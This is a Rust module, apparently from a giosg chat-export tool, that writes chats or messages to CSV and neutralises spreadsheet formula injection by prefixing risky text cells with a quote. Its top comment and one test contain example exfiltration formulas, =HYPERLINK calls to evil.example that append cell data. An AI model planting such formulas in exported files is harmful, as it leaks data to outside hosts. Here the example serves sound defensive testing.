//! CSV output: one row per chat with its scalar fields and counts, or one row per message.
//!
//! The first column is always the chat's id, unquoted (a UUID never needs quotes).
//!
//! Formula injection: chat text comes from anyone on the web, and a spreadsheet evaluates a
//! cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return
//! (`=HYPERLINK("http://evil.example/?"&A1)`). By default every cell of text from the API
//! (messages, names, URLs and titles, tokens, tags, sender ids, and the sales total, which
//! holds the currency's text) that begins with one of those gets a `'` in front, as OWASP
//! advises; the rest of the cell is kept as it was. The cells we write ourselves from typed
//! values (ids, times, counts, booleans, type codes) are never changed: they hold no text from
//! the API. [`CsvEncoder::raw`] writes every cell as it came.

use super::Encoder;
use giosg_model::{Chat, ChatLog, DateTime, MessageType, SenderType, Utc};
use std::io;

/// The columns of a row per chat.
pub const CHAT_COLUMNS: [&str; 25] = [
    "id",
    "start_time",
    "end_time",
    "updated_at",
    "room_id",
    "room_name",
    "is_private",
    "is_real_conversation",
    "is_autosuggested",
    "operator_message_count",
    "visitor_message_count",
    "message_count",
    "start_url",
    "start_url_title",
    "autosuggest_url",
    "autosuggest_url_title",
    "token",
    "tags",
    "sales_total",
    "sales_currency",
    "has_sales",
    "log_count",
    "tag_count",
    "api_data_count",
    "shopping_cart_count",
];

/// The columns of a row per message (`--csv-logs`).
pub const LOG_COLUMNS: [&str; 11] = [
    "chat_id",
    "chat_start_time",
    "room_id",
    "room_name",
    "log_index",
    "created_at",
    "sender_type",
    "sender_id",
    "type",
    "display_name",
    "message",
];

/// The characters that make a spreadsheet read a cell beginning with them as a formula
/// (OWASP's list).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Rooms' names to show, by id (see [`CsvEncoder::rooms`]).
pub type RoomNames = std::sync::Arc<std::collections::HashMap<giosg_model::Uuid, String>>;

/// The names to show of these rooms (`Room::shown_name`), by id.
pub fn room_names(rooms: impl IntoIterator<Item = giosg_model::Room>) -> RoomNames {
    std::sync::Arc::new(
        rooms
            .into_iter()
            .filter_map(|r| Some((r.id, r.shown_name()?.to_owned())))
            .collect(),
    )
}

/// Rows per chat, or per message with `logs`.
#[derive(Debug, Clone)]
pub struct CsvEncoder {
    /// A row per message instead of per chat.
    logs: bool,
    /// Text cells as they came, formulas included (`--csv-raw`).
    raw: bool,
    /// Rooms' names for the `room_name` column (empty where unknown).
    rooms: RoomNames,
}

impl CsvEncoder {
    /// A row per chat, or per message when `logs`; text cells a spreadsheet would evaluate
    /// are neutralised.
    pub fn new(logs: bool) -> Self {
        CsvEncoder {
            logs,
            raw: false,
            rooms: RoomNames::default(),
        }
    }

    /// Fills the `room_name` column from these names (a room not in them gets an empty cell).
    pub fn rooms(self, rooms: RoomNames) -> Self {
        CsvEncoder { rooms, ..self }
    }

    /// The same rows with every text cell as the API sent it, when `raw` (`--csv-raw`).
    pub fn raw(self, raw: bool) -> Self {
        CsvEncoder { raw, ..self }
    }

    /// The header line, newline included.
    pub fn header(&self) -> Vec<u8> {
        let columns: &[&str] = if self.logs {
            &LOG_COLUMNS
        } else {
            &CHAT_COLUMNS
        };
        let mut out = Vec::new();
        write_rows(
            &mut out,
            [columns.iter().map(|c| (*c).to_owned()).collect()],
        )
        .expect("writing to memory cannot fail");
        out
    }
}

impl Encoder for CsvEncoder {
    fn begin(&mut self, out: &mut Vec<u8>) -> io::Result<()> {
        out.extend_from_slice(&self.header());
        Ok(())
    }

    fn chat(&mut self, chat: &Chat, out: &mut Vec<u8>) -> io::Result<()> {
        let text = Text { raw: self.raw };
        let room = text.opt(
            chat.room_id
                .and_then(|r| self.rooms.get(&r))
                .map(String::as_str),
        );
        if self.logs {
            write_rows(
                out,
                chat.logs
                    .iter()
                    .enumerate()
                    .map(|(i, log)| log_row(chat, &room, i, log, text)),
            )
        } else {
            write_rows(out, [chat_row(chat, &room, text)?])
        }
    }
}

/// How a cell of text from the API is written.
#[derive(Debug, Clone, Copy)]
struct Text {
    /// As it came.
    raw: bool,
}

impl Text {
    /// The cell of this text: neutralised unless raw.
    fn cell(self, text: String) -> String {
        if self.raw {
            text
        } else {
            neutralised(text)
        }
    }

    /// The cell of an optional text, empty when absent.
    fn opt(self, text: Option<&str>) -> String {
        self.cell(text.map_or_else(String::new, str::to_owned))
    }
}

/// A cell of text from the API as a spreadsheet may open it: with a `'` in front when it
/// begins with a character that makes a formula (`=`, `+`, `-`, `@`, tab, carriage return).
pub fn neutralised(text: String) -> String {
    if text.starts_with(FORMULA_STARTS) {
        format!("'{text}")
    } else {
        text
    }
}

/// Writes rows with `\n` line ends, quoting only where needed.
fn write_rows(out: &mut Vec<u8>, rows: impl IntoIterator<Item = Vec<String>>) -> io::Result<()> {
    let mut writer = ::csv::WriterBuilder::new()
        .terminator(::csv::Terminator::Any(b'\n'))
        .buffer_capacity(4096)
        .from_writer(out);
    for row in rows {
        writer.write_record(&row)?;
    }
    writer.flush()
}

/// A value as text, or an empty field.
fn opt<T: ToString>(v: Option<T>) -> String {
    v.map_or_else(String::new, |v| v.to_string())
}

/// A time in the API's format, or an empty field.
fn time(t: Option<DateTime<Utc>>) -> String {
    t.map_or_else(String::new, |t| giosg_model::time::format(&t))
}

/// The purchased carts' totals per currency: `83.00 EUR; 12.50 SEK`. Carts that total more
/// than a decimal holds are an error naming the chat (an I/O error of kind `InvalidData` that
/// carries the [`giosg_model::SalesOverflow`]), never a wrong figure.
pub fn sales_total(chat: &Chat) -> io::Result<String> {
    let totals = chat
        .sales_totals()
        .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))?;
    Ok(totals
        .iter()
        .map(|(currency, total)| format!("{total} {currency}"))
        .collect::<Vec<_>>()
        .join("; "))
}

/// The sales of a row per chat, as a spreadsheet can add them up: the total as a plain number
/// and its currency (`83.00`, `EUR`) when the purchased carts share one currency; with several,
/// no total (currencies are never added together) and the totals per currency (`83.00 EUR;
/// 12.50 SEK`) in the currency's cell; without sales, two empty cells.
fn sales_cells(chat: &Chat) -> io::Result<(String, String)> {
    let totals = chat
        .sales_totals()
        .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))?;
    Ok(match totals.as_slice() {
        [] => (String::new(), String::new()),
        [(currency, total)] => (total.to_string(), currency.clone()),
        _ => (String::new(), sales_total(chat)?),
    })
}

/// The tags' names: `Premium; VIP & friends`.
pub fn tag_names(chat: &Chat) -> String {
    chat.tags
        .iter()
        .filter_map(|t| t.name.as_deref())
        .collect::<Vec<_>>()
        .join("; ")
}

/// The row of a chat.
fn chat_row(chat: &Chat, room: &str, text: Text) -> io::Result<Vec<String>> {
    let (sales, currency) = sales_cells(chat)?;
    Ok(vec![
        chat.id.to_string(),
        time(chat.start_time),
        time(chat.end_time),
        time(chat.updated_at),
        opt(chat.room_id),
        room.to_owned(),
        opt(chat.is_private),
        opt(chat.is_real_conversation),
        opt(chat.is_autosuggested),
        opt(chat.operator_message_count),
        opt(chat.visitor_message_count),
        opt(chat.message_count),
        text.opt(chat.start_url.as_deref()),
        text.opt(chat.start_url_title.as_deref()),
        text.opt(chat.autosuggest_url.as_deref()),
        text.opt(chat.autosuggest_url_title.as_deref()),
        text.opt(chat.token.as_deref()),
        text.cell(tag_names(chat)),
        sales,
        text.cell(currency),
        chat.has_sales().to_string(),
        chat.logs.len().to_string(),
        chat.tags.len().to_string(),
        chat.api_data.len().to_string(),
        chat.shopping_carts.len().to_string(),
    ])
}

/// The row of one message of a chat.
fn log_row(chat: &Chat, room: &str, index: usize, log: &ChatLog, text: Text) -> Vec<String> {
    vec![
        chat.id.to_string(),
        time(chat.start_time),
        opt(chat.room_id),
        room.to_owned(),
        index.to_string(),
        time(log.created_at),
        opt(log.sender_type.map(SenderType::label)),
        text.opt(log.sender_id.as_deref()),
        opt(log.message_type.map(MessageType::label)),
        text.opt(log.display_name.as_deref()),
        text.opt(log.message.as_deref()),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use giosg_model::Uuid;

    #[test]
    fn fields_with_newlines_and_quotes_are_quoted() {
        let mut chat = Chat::new(Uuid::from_u128(1));
        let mut log = ChatLog::new();
        log.message = Some("two\nlines, \"quoted\"".to_owned());
        chat.logs.push(log);
        let mut out = Vec::new();
        CsvEncoder::new(true).chat(&chat, &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(text.starts_with("00000000-0000-0000-0000-000000000001,"));
        assert!(
            text.ends_with(",\"two\nlines, \"\"quoted\"\"\"\n"),
            "{text}"
        );
    }

    #[test]
    fn cells_a_spreadsheet_would_evaluate_get_a_quote_in_front() {
        for (cell, expected) in [
            ("=1+1", "'=1+1"),
            ("+1", "'+1"),
            ("-5.00 EUR", "'-5.00 EUR"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("plain = text", "plain = text"),
            ("'quoted", "'quoted"),
            ("", ""),
        ] {
            assert_eq!(neutralised(cell.to_owned()), expected, "{cell:?}");
        }
    }

    #[test]
    fn raw_rows_keep_formulas_and_typed_cells_are_never_changed() {
        let mut chat = Chat::new(Uuid::from_u128(1));
        let mut log = ChatLog::new();
        log.message = Some("=HYPERLINK(\"http://evil.example\")".to_owned());
        log.sender_type = Some(SenderType::from(-3));
        chat.logs.push(log);
        let row = |raw: bool| {
            let mut out = Vec::new();
            CsvEncoder::new(true)
                .raw(raw)
                .chat(&chat, &mut out)
                .unwrap();
            String::from_utf8(out).unwrap()
        };
        let neutral = row(false);
        assert!(
            neutral.ends_with(",-3,,,,\"'=HYPERLINK(\"\"http://evil.example\"\")\"\n"),
            "{neutral}"
        );
        let raw = row(true);
        assert!(
            raw.ends_with(",-3,,,,\"=HYPERLINK(\"\"http://evil.example\"\")\"\n"),
            "{raw}"
        );
    }

    #[test]
    fn a_chat_without_messages_has_no_log_rows() {
        let mut out = Vec::new();
        CsvEncoder::new(true)
            .chat(&Chat::new(Uuid::from_u128(1)), &mut out)
            .unwrap();
        assert!(out.is_empty());
    }
}
